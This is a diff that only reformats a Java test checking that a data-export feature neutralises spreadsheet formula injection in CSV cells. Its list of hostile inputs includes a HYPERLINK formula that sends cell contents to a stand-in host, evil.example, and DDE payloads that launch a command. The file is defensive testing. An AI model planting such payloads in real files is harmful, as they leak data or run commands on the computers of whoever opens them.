@@ -28,8 +28,8 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
 
 /**
- * Text a subject typed in (a username, a delivery note) must not run as a spreadsheet formula
- * when the subject opens the CSV of their export: such cells start with {@code '}.
+ * Text a subject typed in (a username, a delivery note) must not run as a spreadsheet formula when
+ * the subject opens the CSV of their export: such cells start with {@code '}.
  */
 class CsvInjectionTest {
 
@@ -37,22 +37,23 @@ class CsvInjectionTest {
   static final ObjectMapper JSON = new ObjectMapper();
 
   /** Text that a spreadsheet would evaluate, and the characters that make CSV quote a cell. */
-  static final List<String> HOSTILE = List.of(
-      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
-      "+cmd|' /C calc'!A0",
-      "-2+3",
-      "@SUM(1+9)*cmd|' /C calc'!A0",
-      "\t=1",
-      "\r=1+1",
-      "=\"quoted\",with,\"commas\"",
-      "-line one\r\nline two",
-      "=1\n=2",
-      "'=looks guarded already",
-      "''+twice");
+  static final List<String> HOSTILE =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
+          "+cmd|' /C calc'!A0",
+          "-2+3",
+          "@SUM(1+9)*cmd|' /C calc'!A0",
+          "\t=1",
+          "\r=1+1",
+          "=\"quoted\",with,\"commas\"",
+          "-line one\r\nline two",
+          "=1\n=2",
+          "'=looks guarded already",
+          "''+twice");
 
   /** Text that merely contains those characters further in, which stays as it is. */
-  static final List<String> HARMLESS = List.of(
-      "a=b+c-d@e", "1,2", "say \"hi\"", "two\nlines", " =1", "'quoted", "''", "'", "");
+  static final List<String> HARMLESS =
+      List.of("a=b+c-d@e", "1,2", "say \"hi\"", "two\nlines", " =1", "'quoted", "''", "'", "");
 
   InMemoryStore notes;
   AccessExporter exporter;
@@ -60,13 +61,18 @@ class CsvInjectionTest {
   @BeforeEach
   void setUp() {
     MutableClock clock = MutableClock.at("2026-03-01T10:00:00Z");
-    AuditLog audit = AuditLog.create(JdbcAuditStorage.of(h2("notes")).createTableIfMissing(),
-        AccessExporterTest.HASHER, clock);
-    notes = InMemoryStore.builder("notes").category("user.account")
-        .subject("account_id", IdentifierType.ACCOUNT_ID)
-        .field("note", "user.account.username")
-        .field("amount", "user.financial.transaction")
-        .build();
+    AuditLog audit =
+        AuditLog.create(
+            JdbcAuditStorage.of(h2("notes")).createTableIfMissing(),
+            AccessExporterTest.HASHER,
+            clock);
+    notes =
+        InMemoryStore.builder("notes")
+            .category("user.account")
+            .subject("account_id", IdentifierType.ACCOUNT_ID)
+            .field("note", "user.account.username")
+            .field("amount", "user.financial.transaction")
+            .build();
     List<String> texts = new ArrayList<>(HOSTILE);
     texts.addAll(HARMLESS);
     for (int i = 0; i < texts.size(); i++) {
@@ -78,14 +84,21 @@ class CsvInjectionTest {
       notes.insert(RecordKey.of((long) i), row);
     }
     // somebody else's hostile text, which must not show up at all
-    notes.insert(RecordKey.of(99L), Map.of("account_id", "b-2", "note", "=WEBSERVICE(\"x\")",
-        "amount", 1L, "collected", T0));
-    exporter = AccessExporter.builder(AccessExporterTest.policy()).stores(notes)
-        .audit(audit).clock(clock).build();
+    notes.insert(
+        RecordKey.of(99L),
+        Map.of("account_id", "b-2", "note", "=WEBSERVICE(\"x\")", "amount", 1L, "collected", T0));
+    exporter =
+        AccessExporter.builder(AccessExporterTest.policy())
+            .stores(notes)
+            .audit(audit)
+            .clock(clock)
+            .build();
   }
 
   @ParameterizedTest
-  @EnumSource(value = ExportFormat.class, names = {"CSV_ZIP", "ZIP"})
+  @EnumSource(
+      value = ExportFormat.class,
+      names = {"CSV_ZIP", "ZIP"})
   void text_starting_like_a_formula_is_prefixed_with_a_quote_and_still_parses_as_csv(
       ExportFormat format) {
     // GIVEN the subject's notes, hostile and harmless, with negative amounts
@@ -111,10 +124,13 @@ class CsvInjectionTest {
     // back exactly what was stored, whatever it was
     List<String> stored = new ArrayList<>(HOSTILE);
     stored.addAll(HARMLESS);
-    assertThat(rows).extracting(row -> {
-      String cell = row.get("note");
-      return cell.matches("(?s)'+[=+\\-@\t\r].*") ? cell.substring(1) : cell;
-    }).containsExactlyElementsOf(stored);
+    assertThat(rows)
+        .extracting(
+            row -> {
+              String cell = row.get("note");
+              return cell.matches("(?s)'+[=+\\-@\t\r].*") ? cell.substring(1) : cell;
+            })
+        .containsExactlyElementsOf(stored);
     // AND no cell of the file, quoted or not, starts with a formula character
     for (List<String> row : parseCsv(csv)) {
       for (String cell : row) {
@@ -133,8 +149,8 @@ class CsvInjectionTest {
 
     exporter.export(SubjectRef.account("a-1"), out, ExportFormat.CSV_ZIP);
 
-    List<Map<String, String>> rows = csvRecords(
-        unzip(out.toByteArray()).get("csv/user.account/notes.csv"));
+    List<Map<String, String>> rows =
+        csvRecords(unzip(out.toByteArray()).get("csv/user.account/notes.csv"));
     assertThat(rows.get(0).get("amount")).isEqualTo("-1000");
     assertThat(rows.get(1).get("amount")).isEqualTo("-42.50");
     assertThat(rows.get(2).get("amount")).isEqualTo("-1002");
@@ -156,17 +172,24 @@ class CsvInjectionTest {
 
   @Test
   void a_field_name_that_starts_like_a_formula_is_guarded_in_the_header() {
-    InMemoryStore odd = InMemoryStore.builder("odd").category("user.account")
-        .subject("account_id", IdentifierType.ACCOUNT_ID)
-        .field("=cmd", "user.account.username")
-        .field("-", "user.account.username")
-        .build();
-    odd.insert(RecordKey.of(1L), Map.of("account_id", "a-1", "=cmd", "+x", "-", "plain",
-        "collected", T0));
-    AccessExporter oddExporter = AccessExporter.builder(AccessExporterTest.policy())
-        .stores(odd).audit(AuditLog.create(JdbcAuditStorage.of(h2("odd"))
-            .createTableIfMissing(), AccessExporterTest.HASHER,
-            MutableClock.at("2026-03-01T10:00:00Z"))).build();
+    InMemoryStore odd =
+        InMemoryStore.builder("odd")
+            .category("user.account")
+            .subject("account_id", IdentifierType.ACCOUNT_ID)
+            .field("=cmd", "user.account.username")
+            .field("-", "user.account.username")
+            .build();
+    odd.insert(
+        RecordKey.of(1L), Map.of("account_id", "a-1", "=cmd", "+x", "-", "plain", "collected", T0));
+    AccessExporter oddExporter =
+        AccessExporter.builder(AccessExporterTest.policy())
+            .stores(odd)
+            .audit(
+                AuditLog.create(
+                    JdbcAuditStorage.of(h2("odd")).createTableIfMissing(),
+                    AccessExporterTest.HASHER,
+                    MutableClock.at("2026-03-01T10:00:00Z")))
+            .build();
     ByteArrayOutputStream out = new ByteArrayOutputStream();
 
     oddExporter.export(SubjectRef.account("a-1"), out, ExportFormat.CSV_ZIP);
